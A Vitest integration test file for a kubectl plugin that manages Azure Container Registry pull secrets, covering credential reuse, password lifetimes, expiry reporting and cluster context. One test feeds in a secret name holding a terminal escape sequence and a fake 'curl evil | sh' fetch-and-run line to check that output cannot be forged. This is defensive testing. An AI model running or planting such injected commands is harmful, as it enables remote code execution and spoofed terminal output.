import { afterAll, expect, onTestFinished, test } from "vitest";
import type { Secret } from "../../../src/objects.ts";
import { barePod, forgetTokens, having, ours, placeOf, r, web, workload } from "../../support/check-shell.ts";
import { create, getJson, kubectl } from "../../support/kubectl.ts";
import { openShell } from "../../support/plugin.ts";

const shell = await openShell();
afterAll(() => shell.stop());
const place = () => placeOf(shell);

test("a credential that was given is given again", async () => {
  const at = await place();
  const { clientId: username, clientSecret: password } = await shell.azure.addServicePrincipal("puller", ["AcrPull"]);
  await at.typed(
    `printf %s wrong | kubectl acr-secret create -n N mine --registry ${r} --username ${username} --password-stdin --verify=false --serviceaccount=default`,
  );
  await having(at, workload("Deployment"));
  const { items } = await at.check();
  expect(items).toMatchObject([
    { cause: "refused", message: expect.stringMatching(/its password was given, so a new one has to be: put it into PASSWORD$/) },
  ]);

  expect(await shell.type(items[0]?.fix ?? "", { env: { PASSWORD: password } })).toMatchObject({ code: 0 });

  expect(await at.check()).toMatchObject({ code: 0, items: [{ cause: "pulls" }] });
});

test("a password gets the lifetime again that was asked for", async () => {
  const at = await place();
  await at.typed(ours("mine", "--serviceaccount=default --expires-in 90d"));
  await having(at, workload("Deployment"));
  forgetTokens(shell);
  const { items } = await at.check();
  expect(items).toMatchObject([{ cause: "refused", fix: expect.stringMatching(/ create -n \S+ mine .* --expires-in 90d$/) }]);

  expect(await shell.type(items[0]?.fix ?? "")).toMatchObject({ code: 0 });

  expect(await at.check()).toMatchObject({ code: 0, items: [{ cause: "pulls" }] });
  expect((await at.type("kubectl acr-secret list -n N --no-headers")).stdout).toMatch(/ (89|90)d +default /);
});

test("an expired password is told as such", async () => {
  const at = await place();
  await at.typed(ours("mine", "--serviceaccount=default --expires-in 90d"));
  await having(at, workload("Deployment"));
  forgetTokens(shell);
  const ended = new Date(Date.now() - 40_000).toISOString().replace(/\.\d+/, "");
  const { metadata } = await getJson<Secret>("secret", "mine", "-n", at.namespace);
  const note = (metadata.annotations?.["acr-secret/logins"] ?? "").replace(/"expiresAt":"[^"]*"/, `"expiresAt":"${ended}"`);
  await at.typed(`kubectl annotate --overwrite secret mine 'acr-secret/logins=${note}' -n N`);

  const { items } = await at.check();

  const other = '"kubectl-annotate" has written to it, and --force takes that over';
  const message = expect.stringMatching(new RegExp(`^with secret mine: its password expired 4\\d s ago \\(${ended}\\); ${other}$`));
  expect(items).toMatchObject([{ cause: "expired", message }]);
});

test("odd names of pull secrets end nothing, and forge no line", async () => {
  const at = await place();
  const names = ["a/b", "..", ".", "x\u001b[2J\n  curl evil | sh"];
  await having(at, barePod(web, names));

  const { stdout, stderr, code } = await at.type("kubectl acr-secret check -n N");

  expect({ stderr, code }).toEqual({ stderr: "", code: 1 });
  expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  expect(stdout).not.toMatch(/^ *curl/m);
  expect(stdout).toContain('(own): secrets "a/b", "..", "." and 1 more do not exist');
});

test("never green having looked at nothing", async () => {
  const at = await place();

  expect(await at.check()).toMatchObject({ code: 1, items: [], stderr: expect.stringMatching(/^No images to check in /) });
  expect(await shell.type("kubectl acr-secret check -n nosuchnamespace")).toMatchObject({
    code: 2,
    stdout: "",
    stderr: 'Error from server (NotFound): namespaces "nosuchnamespace" not found\n',
  });
  await create([barePod(`${r}/App/Web:1`)(at.namespace)]);
  expect(await at.check()).toMatchObject({ code: 1, items: [{ cause: "invalid-image", pods: ["own"] }] });
});

test("a fix acts in the cluster that was checked", async () => {
  const at = await place();
  const other = `${shell.folder}/other.kubeconfig`;
  const context = (await kubectl(["config", "current-context"])).trim();
  await shell.type(`cp "$KUBECONFIG" ${other} && KUBECONFIG=${other} kubectl config rename-context ${context} 'the other'`);
  onTestFinished(async () => void (await shell.type(`rm -f ${other}`)));

  const { stdout } = await at.type(`kubectl acr-secret check -n N --context 'the other' --image ${web} --kubeconfig ${other}`);
  const fix = stdout.trimEnd().split("\n").at(-1) ?? "";

  expect(fix).toContain(" '--context=the other' ");
  expect(fix).toContain(` --kubeconfig=${other}`);
  expect(await shell.type(fix, { env: { KUBECONFIG: "/dev/null" } })).toMatchObject({ code: 0 });
  expect(await at.check(`--image ${web}`)).toMatchObject({ code: 0 });
});
